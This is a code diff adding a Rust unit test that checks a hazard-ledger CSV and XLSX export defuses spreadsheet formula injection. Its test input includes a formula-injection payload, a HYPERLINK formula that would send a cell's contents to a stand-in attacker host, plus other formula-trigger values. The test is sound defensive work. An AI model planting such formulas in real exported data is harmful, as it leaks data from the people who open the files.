@@ -397,3 +397,66 @@ pub fn to_xlsx(rows: &[LedgerRow]) -> Result<Vec<u8>, ApiError> {
         .map_err(internal)?;
     book.save_to_buffer().map_err(internal)
 }
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    fn row(description: &str) -> LedgerRow {
+        LedgerRow {
+            hazard_id: "h".into(),
+            found_at: "2026-02-10 10:00".into(),
+            township: String::new(),
+            enterprise: String::new(),
+            agency: String::new(),
+            location: "@SUM(A1)".into(),
+            participants: String::new(),
+            description: description.into(),
+            category: String::new(),
+            grade: String::new(),
+            measure: "+1+1".into(),
+            funds_yuan: String::new(),
+            responsible_person: "-2".into(),
+            deadline: String::new(),
+            progress: String::new(),
+            reinspection_result: String::new(),
+            reinspector: String::new(),
+            reinspected_on: String::new(),
+            closed_on: String::new(),
+            reported_at: String::new(),
+            reported_to: String::new(),
+        }
+    }
+
+    /// An inspector (or anyone writing a hazard) types a formula: the regulator's spreadsheet
+    /// must show it as text, never run it.
+    #[test]
+    fn text_that_looks_like_a_formula_stays_text_in_csv_and_xlsx() {
+        let evil = "=HYPERLINK(\"http://evil.example/\"&A1,\"点此\")";
+        let csv = to_csv(&[row(evil)]).expect("csv");
+        let text = String::from_utf8(csv[3..].to_vec()).expect("utf-8");
+        let mut reader = csv::Reader::from_reader(text.as_bytes());
+        let cells: Vec<String> = reader
+            .records()
+            .next()
+            .expect("a row")
+            .expect("row")
+            .iter()
+            .map(str::to_owned)
+            .collect();
+        assert_eq!(cells[7], format!("'{evil}"));
+        assert_eq!(cells[5], "'@SUM(A1)");
+        assert_eq!(cells[10], "'+1+1");
+        assert_eq!(cells[12], "'-2");
+        // In the workbook the cell is a string, so the sheet holds no formula element at all.
+        let xlsx = to_xlsx(&[row(evil)]).expect("xlsx");
+        let mut zip = zip::ZipArchive::new(std::io::Cursor::new(xlsx)).expect("zip");
+        let mut sheet = String::new();
+        std::io::Read::read_to_string(
+            &mut zip.by_name("xl/worksheets/sheet1.xml").expect("sheet"),
+            &mut sheet,
+        )
+        .expect("read");
+        assert!(!sheet.contains("<f>"), "a formula in the sheet: {sheet}");
+    }
+}
